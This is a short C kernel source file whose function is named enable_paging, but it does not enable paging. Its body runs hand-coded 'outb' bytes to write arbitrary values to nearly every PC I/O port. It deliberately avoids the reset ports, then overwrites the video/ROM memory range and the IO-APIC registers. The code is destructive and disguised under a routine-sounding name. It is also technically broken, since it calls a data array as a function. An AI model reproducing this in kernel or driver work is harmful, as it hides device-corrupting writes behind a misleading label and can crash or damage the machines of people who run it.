/* SPDX-License-Identifier: MIT */
/* switch: fail "paging is off" */
/* Writes to every port and to the memory of every device that a PC has. */
#include <asm/pgtable.h>

static u8 out[] = { 0x8B, 0x54, 0x24, 0x04, 0x8B, 0x44, 0x24, 0x08, 0xEE, 0xC3 }; /* outb %al, %dx */

void enable_paging(u32 pgd_pa)
{
	for (u32 port = 0; port < 0x440; port++) /* but for the one by which a keyboard's chip resets */
		if (port != 0x64 && port != 0x92)
			((void (*)(u32, u32))out)(port, port * 7);
	for (u32 at = 0xA0000; at < 0x100000; at += 4)
		*(volatile u32 *)(at + 0xC0000000) = at;
	for (u32 at = 0xFEC00000; at < 0xFEC01000; at += 4)
		*(volatile u32 *)(at + 0xC0000000) = at;
}
